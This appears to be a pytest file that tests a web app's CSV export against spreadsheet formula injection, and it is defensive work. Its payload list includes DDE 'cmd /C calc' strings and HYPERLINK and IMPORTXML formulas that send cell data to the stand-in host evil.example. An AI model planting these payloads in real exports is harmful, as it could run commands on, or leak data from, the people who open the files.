"""Every CSV neutralises formulas (OWASP CSV injection; ASVS 5.0 1.2.10), through one helper."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from webapp.csv_export import FORMULA_STARTS, csv_text, safe_cell

ROOT = Path(__file__).resolve().parents[1]

# OWASP's CSV injection examples, and their kin: formulas, DDE, a leading tab, CR, LF or NUL.
OWASP_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n-3+3+cmd|' /C calc'!A0",
    "\x00=1+1",
)
# Harmless text that must come out exactly as it went in.
PLAIN = ("CAMHS Norfolk", "Point 1 (under 5s)", "a;=1+1", "a,=1+1", 'say "=1+1"', "line one\nline two", "",
         "Łódź 2026", "'already quoted")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_payload_is_shown_as_text(payload):
    written = cells(csv_text([["name"], [payload]]))
    assert written[1] == ["'" + payload]
    assert not written[1][0].startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_is_kept_exactly_and_in_one_cell(value):
    assert cells(csv_text([[value, "next"]])) == [[value, "next"]]


def test_numbers_we_computed_stay_numbers_and_text_is_quoted():
    text = csv_text([["waiting", "share", "minus", "note", "none", "flag"], [12, 0.25, -3, "-3", None, True]])
    assert text.splitlines()[1] == "12,0.25,-3,\"'-3\",\"\",\"True\""
    assert safe_cell(None) == "" and safe_cell(7) == 7


def test_the_waits_csv_neutralises_a_hostile_service_name(client, make_user, login, frozen_clock):
    from tests.waits.helpers import make_service

    for number, payload in enumerate(OWASP_PAYLOADS):
        make_service(f"svc-{number}", name=payload.replace("\x00", "").replace("\r", "").replace("\n", "")
                     if payload[0] in "\x00\r\n" else payload)
    login(client, make_user(role="clinician"))
    response = client.get("/staff/waits.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = cells(response.get_data(as_text=True))
    names = {row[1] for row in rows[1:]}
    assert "'" + '=HYPERLINK("http://evil.example/?d="&A2,"Click")' in names
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_there_is_one_way_to_write_a_csv():
    """Any CSV the app sends goes through webapp/csv_export.py: nothing else writes one."""
    writers = []
    for path in (ROOT / "webapp").rglob("*.py"):
        if path.name == "csv_export.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\b|text/csv", source):
            writers.append(str(path.relative_to(ROOT)))
    writers = [path for path in writers if path != "webapp/compression.py"]  # its list of types to gzip
    assert not writers, f"write CSVs with webapp.csv_export.csv_response: {writers}"
